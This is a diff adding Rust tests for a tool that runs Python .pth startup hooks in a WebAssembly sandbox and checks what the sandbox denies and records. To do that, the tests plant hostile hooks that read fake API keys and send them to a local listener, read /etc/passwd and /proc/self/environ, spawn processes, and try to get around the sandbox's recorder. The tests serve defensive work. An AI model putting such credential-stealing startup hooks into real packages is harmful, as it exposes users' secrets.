@@ -1,0 +1,678 @@
+//! The WebAssembly sandbox, with the real guest and real wasmtime: hooks planted in throw-away
+//! venvs are evaluated by `sitegate explain` and `sitegate scan`, and the tests check what the
+//! trace recorded, what the hook could reach, and the verdict.
+//!
+//! Every hostile payload here is harmless: it reads only fake variables the test set, and it
+//! only tries to reach a listener on 127.0.0.1 that the test itself started.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::process::Command;
+use std::sync::{mpsc, OnceLock};
+use std::time::Duration;
+
+use serde_json::Value;
+use sitegate_tests::{pythons, run, OutputText, Python, Sandbox, Venv};
+
+/// The interpreter these tests evaluate hooks for: the oldest present, which is furthest from
+/// the guest's CPython 3.14.
+fn python() -> Option<Python> {
+    let found = pythons().into_iter().next();
+    if found.is_none() {
+        eprintln!("skipping sandbox tests: no CPython 3.8+ present");
+    }
+    found
+}
+
+/// Prepares the guest once per test run, in the shared cache, so that tests do not all compile
+/// it at the same time.
+fn prepared(sandbox: &Sandbox) {
+    static PREPARED: OnceLock<()> = OnceLock::new();
+    PREPARED.get_or_init(|| {
+        let output = run(sandbox.sitegate().args(["sandbox", "prepare"]));
+        assert!(output.status.success(), "{}", output.stderr_text());
+    });
+}
+
+/// A venv with one hook file and a policy that sends it to the sandbox with these grants.
+fn setup(python: &Python, file: &str, contents: &str, env: &[&str]) -> (Sandbox, Venv) {
+    let sandbox = Sandbox::new();
+    prepared(&sandbox);
+    let venv = sandbox.venv(python, "venv", false);
+    venv.write(file, contents);
+    let grants: Vec<String> = env.iter().map(|e| format!("\"{e}\"")).collect();
+    std::fs::write(
+        sandbox.path().join("policy.toml"),
+        format!(
+            "[[allow]]\nfile = \"{file}\"\nmode = \"sandbox\"\nenv = [{}]\n",
+            grants.join(", ")
+        ),
+    )
+    .unwrap();
+    (sandbox, venv)
+}
+
+/// `sitegate explain --format json` on a hook file: the hooks of the document. With `secrets`,
+/// fake `OPENAI_API_KEY` and `AWS_SECRET_ACCESS_KEY` are set in sitegate's environment.
+fn explain(sandbox: &Sandbox, venv: &Venv, target: &str, secrets: bool) -> Vec<Value> {
+    let fake: &[(&str, &str)] = &[
+        ("OPENAI_API_KEY", "sk-fake-openai"),
+        ("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"),
+    ];
+    explain_with(sandbox, venv, target, if secrets { fake } else { &[] })
+}
+
+/// `sitegate explain --format json` with these variables in sitegate's environment.
+fn explain_with(
+    sandbox: &Sandbox,
+    venv: &Venv,
+    target: &str,
+    environment: &[(&str, &str)],
+) -> Vec<Value> {
+    let mut command = explain_command(sandbox, venv, target, "json");
+    command.envs(environment.iter().copied());
+    let output = run(&mut command);
+    let document: Value = serde_json::from_str(&output.stdout_text())
+        .unwrap_or_else(|e| panic!("{e}: {}\n{}", output.stdout_text(), output.stderr_text()));
+    document["hooks"].as_array().unwrap().clone()
+}
+
+fn explain_command(sandbox: &Sandbox, venv: &Venv, target: &str, format: &str) -> Command {
+    let mut command = sandbox.sitegate();
+    command
+        .arg("--policy")
+        .arg(sandbox.path().join("policy.toml"))
+        .arg("explain")
+        .arg(venv.site_packages.join(target))
+        .arg("--python")
+        .arg(&venv.python)
+        .args(["--format", format]);
+    command
+}
+
+fn strings(value: &Value) -> Vec<String> {
+    value
+        .as_array()
+        .map(|a| a.iter().map(|v| v.to_string()).collect())
+        .unwrap_or_default()
+}
+
+fn lookups(hook: &Value) -> Vec<(String, bool)> {
+    hook["sandbox"]["trace"]["environment_lookups"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| {
+            (
+                l["name"].as_str().unwrap().to_owned(),
+                l["granted"].as_bool().unwrap(),
+            )
+        })
+        .collect()
+}
+
+fn stdout_of(hook: &Value) -> String {
+    hook["sandbox"]["trace"]["stdout"]
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+const READ_SECRETS: &str = "import os; print('openai=' + os.environ.get('OPENAI_API_KEY', '-'), \
+                            'aws=' + str(os.getenv('AWS_SECRET_ACCESS_KEY')))\n";
+
+#[test]
+fn environment_is_empty_unless_granted() {
+    let Some(python) = python() else { return };
+    let (sandbox, venv) = setup(&python, "probe.pth", READ_SECRETS, &[]);
+    let hooks = explain(&sandbox, &venv, "probe.pth", true);
+    let hook = &hooks[0];
+    assert_eq!(stdout_of(hook).trim(), "openai=- aws=None");
+    let seen = lookups(hook);
+    assert!(seen.contains(&("OPENAI_API_KEY".into(), false)), "{seen:?}");
+    assert!(
+        seen.contains(&("AWS_SECRET_ACCESS_KEY".into(), false)),
+        "{seen:?}"
+    );
+    assert_eq!(hook["verdict"], "denied");
+    assert_eq!(hook["reason"], "capability-denied");
+
+    let (sandbox, venv) = setup(&python, "probe.pth", READ_SECRETS, &["OPENAI_*"]);
+    let hooks = explain(&sandbox, &venv, "probe.pth", true);
+    assert_eq!(
+        stdout_of(&hooks[0]).trim(),
+        "openai=sk-fake-openai aws=None"
+    );
+    let seen = lookups(&hooks[0]);
+    assert!(seen.contains(&("OPENAI_API_KEY".into(), true)), "{seen:?}");
+    assert_eq!(hooks[0]["reason"], "capability-denied");
+}
+
+/// A listener on 127.0.0.1 that reports every connection it accepts.
+fn listener() -> (u16, mpsc::Receiver<Vec<u8>>) {
+    let socket = TcpListener::bind("127.0.0.1:0").unwrap();
+    socket.set_nonblocking(true).unwrap();
+    let port = socket.local_addr().unwrap().port();
+    let (sender, received) = mpsc::channel();
+    std::thread::spawn(move || {
+        let deadline = std::time::Instant::now() + Duration::from_secs(120);
+        while std::time::Instant::now() < deadline {
+            match socket.accept() {
+                Ok((mut stream, _)) => {
+                    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
+                    let mut data = Vec::new();
+                    let _ = stream.read_to_end(&mut data);
+                    if sender.send(data).is_err() {
+                        return;
+                    }
+                }
+                Err(_) => std::thread::sleep(Duration::from_millis(10)),
+            }
+        }
+    });
+    (port, received)
+}
+
+#[test]
+fn network_is_unreachable_and_attempts_are_recorded() {
+    let Some(python) = python() else { return };
+    let (port, received) = listener();
+
+    // The listener works: a plain connection from the test reaches it.
+    drop(std::net::TcpStream::connect(("127.0.0.1", port)).unwrap());
+    assert!(received.recv_timeout(Duration::from_secs(5)).is_ok());
+
+    let hook = format!(
+        "import os, socket, urllib.request\n\
+         import os, socket; exec(\"try:\\n s = socket.create_connection(('127.0.0.1', {port}), 3)\\n s.sendall(os.environ.get('OPENAI_API_KEY', '').encode())\\nexcept OSError as e:\\n print('connect', type(e).__name__)\")\n\
+         import socket; exec(\"try:\\n socket.getaddrinfo('example.com', 443)\\nexcept OSError as e:\\n print('lookup', type(e).__name__)\")\n\
+         import _socket; exec(\"try:\\n _socket.socket()\\nexcept OSError as e:\\n print('raw', type(e).__name__)\")\n"
+    );
+    let (sandbox, venv) = setup(&python, "net.pth", &hook, &[]);
+    let hooks = explain(&sandbox, &venv, "net.pth", true);
+    assert_eq!(hooks.len(), 4);
+    assert!(stdout_of(&hooks[1]).starts_with("connect "), "{hooks:?}");
+    let connections = strings(&hooks[1]["sandbox"]["trace"]["connections"]);
+    assert!(
+        connections
+            .iter()
+            .any(|c| c.contains(&format!("127.0.0.1:{port}"))),
+        "{connections:?}"
+    );
+    assert_eq!(hooks[1]["reason"], "capability-denied");
+    assert!(stdout_of(&hooks[2]).starts_with("lookup "), "{hooks:?}");
+    let names = strings(&hooks[2]["sandbox"]["trace"]["name_lookups"]);
+    assert!(names.iter().any(|n| n.contains("example.com")), "{names:?}");
+    assert!(stdout_of(&hooks[3]).starts_with("raw "), "{hooks:?}");
+    assert_eq!(hooks[3]["reason"], "capability-denied");
+
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        received.try_iter().next().is_none(),
+        "the listener received a connection from the sandbox"
+    );
+}
+
+fn outcome_name(hook: &Value) -> String {
+    hook["sandbox"]["outcome"]["kind"]
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+#[test]
+fn files_outside_the_site_directory_are_not_there() {
+    let Some(python) = python() else { return };
+    let probe = "def attempt(what, action, *arguments):\n    try:\n        action(*arguments)\n        print(what, 'ok')\n    except OSError as error:\n        print(what, type(error).__name__)\n";
+    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
+    // `site` runs each line in a function frame, so the names it binds are locals that a
+    // lambda on the same line cannot see: the probe takes its arguments instead.
+    let lines = format!(
+        "import helper_probe; helper_probe.attempt('passwd', open, '/etc/passwd')\n\
+         import os, helper_probe; helper_probe.attempt('home', os.listdir, {home:?})\n\
+         import helper_probe, sitecustomize_free_module; print('module', sitecustomize_free_module.VALUE)\n\
+         import helper_probe; helper_probe.attempt('write', open, sitedir + '/written.txt', 'w')\n\
+         import helper_probe; helper_probe.attempt('proc', open, '/proc/self/environ', 'rb')\n"
+    );
+    let (sandbox, venv) = setup(&python, "files.pth", &lines, &[]);
+    venv.write("helper_probe.py", probe);
+    venv.write("sitecustomize_free_module.py", "VALUE = 42\n");
+    let hooks = explain(&sandbox, &venv, "files.pth", true);
+    let outputs: Vec<String> = hooks
+        .iter()
+        .map(|h| stdout_of(h).trim().to_owned())
+        .collect();
+    assert!(
+        outputs[0].starts_with("passwd ") && !outputs[0].ends_with(" ok"),
+        "{outputs:?}"
+    );
+    assert!(
+        outputs[1].starts_with("home ") && !outputs[1].ends_with(" ok"),
+        "{outputs:?}"
+    );
+    assert_eq!(outputs[2], "module 42");
+    assert!(
+        outputs[3].starts_with("write ") && !outputs[3].ends_with(" ok"),
+        "{outputs:?}"
+    );
+    assert!(
+        outputs[4].starts_with("proc ") && !outputs[4].ends_with(" ok"),
+        "{outputs:?}"
+    );
+    assert!(!venv.site_packages.join("written.txt").exists());
+    for index in [0, 3, 4] {
+        assert_eq!(
+            hooks[index]["reason"], "capability-denied",
+            "{}",
+            hooks[index]
+        );
+    }
+}
+
+#[test]
+fn processes_and_native_code_fail_and_are_reported() {
+    let Some(python) = python() else { return };
+    let lines = "import os; exec(\"try:\\n os.system('true')\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
+                 import subprocess; exec(\"try:\\n subprocess.run(['true'])\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
+                 import os; exec(\"try:\\n os.fork()\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
+                 import ctypes; ctypes.CDLL(None)\n";
+    let (sandbox, venv) = setup(&python, "proc.pth", lines, &[]);
+    let hooks = explain(&sandbox, &venv, "proc.pth", false);
+    for hook in &hooks[..3] {
+        assert!(
+            !strings(&hook["sandbox"]["trace"]["processes"]).is_empty(),
+            "{hook}"
+        );
+        assert_eq!(hook["reason"], "capability-denied", "{hook}");
+    }
+    assert_eq!(outcome_name(&hooks[3]), "needs-native");
+    assert_eq!(hooks[3]["sandbox"]["outcome"]["module"], "ctypes");
+    assert_eq!(hooks[3]["reason"], "needs-native");
+}
+
+#[test]
+fn a_module_the_guest_lacks_is_its_own_outcome() {
+    let Some(python) = python() else { return };
+    let lines = "import tomllib\nimport sys; exec('try:\\n import tomllib\\nexcept ImportError:\\n pass')\n";
+    let (sandbox, venv) = setup(&python, "missing.pth", lines, &[]);
+    let hooks = explain(&sandbox, &venv, "missing.pth", false);
+    for hook in &hooks {
+        assert_eq!(outcome_name(hook), "missing-module", "{hook}");
+        assert_eq!(hook["sandbox"]["outcome"]["module"], "tomllib", "{hook}");
+        assert_eq!(hook["reason"], "missing-module");
+    }
+}
+
+#[test]
+fn limits_end_each_hook_with_its_own_outcome() {
+    let Some(python) = python() else { return };
+    let lines = "import sys; exec('while True: pass')\n\
+                 import sys; block = bytearray(1 << 30)\n\
+                 import sys; exec('while True: print(\"x\" * 1000000)')\n\
+                 import sys; down = lambda again: again(again); down(down)\n\
+                 import sys; sys.path.insert(0, sitedir + '/after-limits')\n";
+    let (sandbox, venv) = setup(&python, "limits.pth", lines, &[]);
+    let started = std::time::Instant::now();
+    let hooks = explain(&sandbox, &venv, "limits.pth", false);
+    assert!(started.elapsed() < Duration::from_secs(60));
+    let reasons: Vec<&str> = hooks
+        .iter()
+        .map(|h| h["reason"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        reasons,
+        [
+            "sandbox-timeout",
+            "sandbox-memory-limit",
+            "sandbox-output-limit",
+            "hook-raised",
+            "sandbox-effects"
+        ],
+        "{hooks:?}"
+    );
+    assert_eq!(
+        hooks[3]["sandbox"]["outcome"]["type_name"],
+        "RecursionError"
+    );
+    assert_eq!(hooks[4]["verdict"], "effects");
+}
+
+#[test]
+fn bypass_attempts_get_no_secret() {
+    let Some(python) = python() else { return };
+    // The first line switches the recorder off before reading: the trace then shows nothing,
+    // and still the hook gets no secret, because the host granted none.
+    let lines = "import sys; recorder = sys.modules['guest']; recorder.RECORDER = None; import os; print(repr(os.environ.get('OPENAI_API_KEY')), repr(os.getenv('AWS_SECRET_ACCESS_KEY')))\n\
+                 import posix; print(repr(dict(posix.environ)))\n\
+                 import os; print(repr(os.environ.__class__.__mro__[-2](os.environ)))\n\
+                 import sys; sys.addaudithook(lambda *a: None); import os, io; print(repr(io.open('/proc/self/environ', 'rb').read()))\n";
+    let (sandbox, venv) = setup(&python, "bypass.pth", lines, &[]);
+    let hooks = explain(&sandbox, &venv, "bypass.pth", true);
+    assert_eq!(hooks.len(), 4);
+    for hook in &hooks {
+        let out = stdout_of(hook);
+        assert!(
+            !out.contains("sk-fake-openai") && !out.contains("fake-aws-secret"),
+            "{out}"
+        );
+        // Whatever the recorder saw, the hook's own code never gets to run natively.
+        assert_ne!(hook["verdict"], "allowed", "{hook}");
+    }
+    assert_eq!(stdout_of(&hooks[0]).trim(), "None None");
+    assert_eq!(stdout_of(&hooks[1]).trim(), "{}");
+}
+
+#[test]
+fn explain_reads_well_for_a_path_hook() {
+    let Some(python) = python() else { return };
+    let line = "import sys; sys.path.insert(0, '/nonexistent/sitegate-effects')\n";
+    let (sandbox, venv) = setup(&python, "effects.pth", line, &[]);
+    let output = run(&mut explain_command(
+        &sandbox,
+        &venv,
+        "effects.pth:1",
+        "table",
+    ));
+    let text = output.stdout_text();
+    assert!(output.status.success(), "{text}\n{}", output.stderr_text());
+    assert!(text.contains("outcome: completed"), "{text}");
+    assert!(
+        text.contains("`sys.path` gains `/nonexistent/sitegate-effects` at 0"),
+        "{text}"
+    );
+    assert!(
+        text.contains("verdict: effects [sandbox-effects]"),
+        "{text}"
+    );
+}
+
+#[test]
+fn unknown_code_goes_to_the_sandbox_when_the_policy_says_so() {
+    let Some(python) = python() else { return };
+    let (sandbox, venv) = setup(&python, "unrelated.pth", "\n", &[]);
+    venv.write("unknown.pth", READ_SECRETS);
+    std::fs::write(
+        sandbox.path().join("policy.toml"),
+        "unknown-code = \"sandbox\"\n",
+    )
+    .unwrap();
+    let output = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(sandbox.path().join("policy.toml"))
+        .args(["scan", "--format", "json", "--python"])
+        .arg(&venv.python)
+        .env("OPENAI_API_KEY", "sk-fake-openai"));
+    let document: Value = serde_json::from_str(&output.stdout_text()).unwrap();
+    let hook = document["hooks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|h| h["path"].as_str().unwrap().ends_with("unknown.pth"))
+        .unwrap()
+        .clone();
+    assert_eq!(hook["reason"], "capability-denied");
+    assert_eq!(hook["sandbox"]["mode"], "sandbox");
+    assert!(!stdout_of(&hook).contains("sk-fake-openai"));
+
+    // Unchanged, the second scan takes the evaluation from the cache; a changed byte does not.
+    let again = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(sandbox.path().join("policy.toml"))
+        .args(["scan", "--format", "json", "--python"])
+        .arg(&venv.python));
+    let document: Value = serde_json::from_str(&again.stdout_text()).unwrap();
+    let cached = |document: &Value| {
+        document["hooks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|h| h["path"].as_str().unwrap().ends_with("unknown.pth"))
+            .unwrap()["sandbox"]["cached"]
+            .clone()
+    };
+    assert_eq!(cached(&document), true);
+    venv.write("unknown.pth", READ_SECRETS.replace("aws=", "aws:"));
+    let changed = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(sandbox.path().join("policy.toml"))
+        .args(["scan", "--format", "json", "--python"])
+        .arg(&venv.python));
+    let document: Value = serde_json::from_str(&changed.stdout_text()).unwrap();
+    assert_eq!(cached(&document), false);
+}
+
+#[test]
+fn path_effects_are_applied_without_running_the_hook() {
+    let Some(python) = python() else { return };
+    let sandbox = Sandbox::new();
+    prepared(&sandbox);
+    let venv = sandbox.venv(&python, "venv", false);
+    let front = sandbox.path().join("front");
+    std::fs::create_dir(&front).unwrap();
+    // Printing is the side effect the sandbox keeps to itself: natively, the marker shows up
+    // in the program's output.
+    venv.write(
+        "effects.pth",
+        format!(
+            "import sys; sys.path.insert(0, {:?}); print('RAN-NATIVELY')\n\
+             import sys; sys.path.append(sitedir + '/tail')\n",
+            front.display().to_string()
+        ),
+    );
+    std::fs::write(
+        sandbox.path().join("policy.toml"),
+        "[[allow]]\nfile = \"effects.pth\"\nmode = \"sandbox\"\n",
+    )
+    .unwrap();
+    let program = ["-c", "import json, sys; print(json.dumps(sys.path))"];
+
+    let unguarded = run(sandbox.command(&venv.python).args(program));
+    let guarded = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(sandbox.path().join("policy.toml"))
+        .args(["exec", "--"])
+        .arg(&venv.python)
+        .args(program));
+    assert!(
+        unguarded.stdout_text().contains("RAN-NATIVELY"),
+        "the hook did not run unguarded; the test would prove nothing"
+    );
+    assert!(
+        !guarded.stdout_text().contains("RAN-NATIVELY"),
+        "the hook ran natively: {}",
+        guarded.stdout_text()
+    );
+    let path_of = |text: &str| -> Value {
+        serde_json::from_str(text.lines().last().unwrap_or_default()).unwrap()
+    };
+    let unguarded_path = path_of(&unguarded.stdout_text());
+    assert!(unguarded_path.to_string().contains("front"));
+    assert_eq!(
+        path_of(&guarded.stdout_text()),
+        unguarded_path,
+        "{}",
+        guarded.stderr_text()
+    );
+}
+
+fn attack_payload(port: u16) -> String {
+    format!(
+        "import os, socket; data = (os.environ.get('OPENAI_API_KEY', '') + ':' + \
+         os.environ.get('AWS_SECRET_ACCESS_KEY', '')).encode(); \
+         s = socket.create_connection(('127.0.0.1', {port}), 3); s.sendall(data); s.close()\n"
+    )
+}
+
+#[test]
+fn the_simulated_attack_is_evaluated_and_denied_while_the_program_runs() {
+    let Some(python) = python() else { return };
+    let (port, received) = listener();
+    let sandbox = Sandbox::new();
+    prepared(&sandbox);
+    let venv = sandbox.venv(&python, "venv", false);
+    venv.write("litellm_init.pth", attack_payload(port));
+    std::fs::write(
+        sandbox.path().join("policy.toml"),
+        "unknown-code = \"sandbox\"\n",
+    )
+    .unwrap();
+    let policy = sandbox.path().join("policy.toml");
+
+    let guarded = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(&policy)
+        .args(["exec", "--"])
+        .arg(&venv.python)
+        .args(["-c", "import sys; print('program output'); sys.exit(7)"])
+        .env("OPENAI_API_KEY", "sk-fake-openai")
+        .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
+    assert_eq!(guarded.stdout_text(), "program output\n");
+    assert_eq!(guarded.status.code(), Some(7), "{}", guarded.stderr_text());
+    assert!(
+        guarded.stderr_text().contains("capability-denied"),
+        "{}",
+        guarded.stderr_text()
+    );
+
+    let scan = run(sandbox
+        .sitegate()
+        .arg("--policy")
+        .arg(&policy)
+        .args(["scan", "--format", "json", "--python"])
+        .arg(&venv.python)
+        .env("OPENAI_API_KEY", "sk-fake-openai")
+        .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
+    let document: Value = serde_json::from_str(&scan.stdout_text()).unwrap();
+    let hook = &document["hooks"][0];
+    assert_eq!(hook["reason"], "capability-denied");
+    let names: Vec<String> = lookups(hook).into_iter().map(|(name, _)| name).collect();
+    assert!(names.contains(&"OPENAI_API_KEY".to_owned()), "{names:?}");
+    assert!(
+        names.contains(&"AWS_SECRET_ACCESS_KEY".to_owned()),
+        "{names:?}"
+    );
+    let connections = strings(&hook["sandbox"]["trace"]["connections"]);
+    assert!(
+        connections
+            .iter()
+            .any(|c| c.contains(&format!("127.0.0.1:{port}"))),
+        "{connections:?}"
+    );
+
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        received.try_iter().next().is_none(),
+        "the listener received data"
+    );
+}
+
+#[test]
+fn well_known_hooks_are_traced_as_they_behave() {
+    let Some(python) = pythons().into_iter().find(|p| p.version <= (3, 11)) else {
+        eprintln!("skipping: no CPython whose ensurepip ships setuptools");
+        return;
+    };
+    let sandbox = Sandbox::new();
+    prepared(&sandbox);
+    let venv = sandbox.venv(&python, "venv", true);
+    if !venv.site_packages.join("distutils-precedence.pth").exists() {
+        eprintln!(
+            "skipping: {}'s setuptools has no distutils-precedence.pth",
+            python.label
+        );
+        return;
+    }
+    // An editable finder in the shape setuptools writes, with a finder of our own.
+    venv.write(
+        "__editable__.demo-0.1.pth",
+        "import __editable___demo_0_1_finder; __editable___demo_0_1_finder.install()\n",
+    );
+    venv.write(
+        "__editable___demo_0_1_finder.py",
+        "import sys\n\nclass DemoFinder:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        return None\n\ndef install():\n    sys.meta_path.append(DemoFinder)\n",
+    );
+    // A legacy namespace-package line, as setuptools wrote them.
+    venv.write(
+        "demo-nspkg.pth",
+        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo_ns',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo_ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo_ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo_ns', types.ModuleType('demo_ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
+    );
+    std::fs::create_dir(venv.site_packages.join("demo_ns")).unwrap();
+    std::fs::write(
+        sandbox.path().join("policy.toml"),
+        "[[allow]]\nfile = \"distutils-precedence.pth\"\nmode = \"sandbox\"\n\
+         env = [\"SETUPTOOLS_USE_DISTUTILS\"]\n\
+         [[allow]]\nfile = \"*.pth\"\nmode = \"sandbox\"\n",
+    )
+    .unwrap();
+
+    // With `SETUPTOOLS_USE_DISTUTILS=local` granted, the shim installs its finder, as it does
+    // natively.
+    let distutils = explain_with(
+        &sandbox,
+        &venv,
+        "distutils-precedence.pth",
+        &[("SETUPTOOLS_USE_DISTUTILS", "local")],
+    );
+    let seen: Vec<String> = lookups(&distutils[0]).into_iter().map(|(n, _)| n).collect();
+    assert!(
+        seen.contains(&"SETUPTOOLS_USE_DISTUTILS".to_owned()),
+        "{seen:?}"
+    );
+    let finders = strings(&distutils[0]["sandbox"]["effects"]["meta_path_added"]);
+    assert!(
+        finders.iter().any(|f| f.contains("DistutilsMetaFinder")),
+        "{finders:?}"
+    );
+    assert_eq!(distutils[0]["reason"], "untransplantable-hook");
+
+    let editable = explain(&sandbox, &venv, "__editable__.demo-0.1.pth", false);
+    assert_eq!(outcome_name(&editable[0]), "completed");
+    let finders = strings(&editable[0]["sandbox"]["effects"]["meta_path_added"]);
+    assert!(
+        finders.iter().any(|f| f.contains("DemoFinder")),
+        "{finders:?}"
+    );
+    assert_eq!(editable[0]["reason"], "untransplantable-hook");
+
+    let nspkg = explain(&sandbox, &venv, "demo-nspkg.pth", false);
+    assert_eq!(outcome_name(&nspkg[0]), "completed", "{}", nspkg[0]);
+    let loaded = strings(&nspkg[0]["sandbox"]["effects"]["modules_loaded"]);
+    assert!(loaded.iter().any(|m| m.contains("demo_ns")), "{loaded:?}");
+
+    let readable = run(
+        explain_command(&sandbox, &venv, "distutils-precedence.pth:1", "table")
+            .env("SETUPTOOLS_USE_DISTUTILS", "local"),
+    );
+    let text = readable.stdout_text();
+    assert!(
+        text.contains("`sys.meta_path` gains `_distutils_hack.DistutilsMetaFinder`"),
+        "{text}"
+    );
+    assert!(text.contains("mode = \"native\""), "{text}");
+}
+
+#[test]
+fn a_hook_sees_the_target_version() {
+    let found = pythons();
+    let (Some(old), Some(new)) = (
+        found.iter().find(|p| p.version < (3, 10)),
+        found.iter().find(|p| p.version >= (3, 10)),
+    ) else {
+        eprintln!("skipping: needs one CPython before 3.10 and one from 3.10");
+        return;
+    };
+    let line =
+        "import sys; sys.version_info < (3, 10) and sys.path.insert(0, '/old-python-only')\n";
+    let added = |python: &Python| {
+        let (sandbox, venv) = setup(python, "versioned.pth", line, &[]);
+        let hooks = explain(&sandbox, &venv, "versioned.pth", false);
+        hooks[0]["sandbox"]["effects"]["path_added"].clone()
+    };
+    assert_eq!(added(old)[0]["entry"], "/old-python-only");
+    assert_eq!(added(new), serde_json::json!([]));
+}
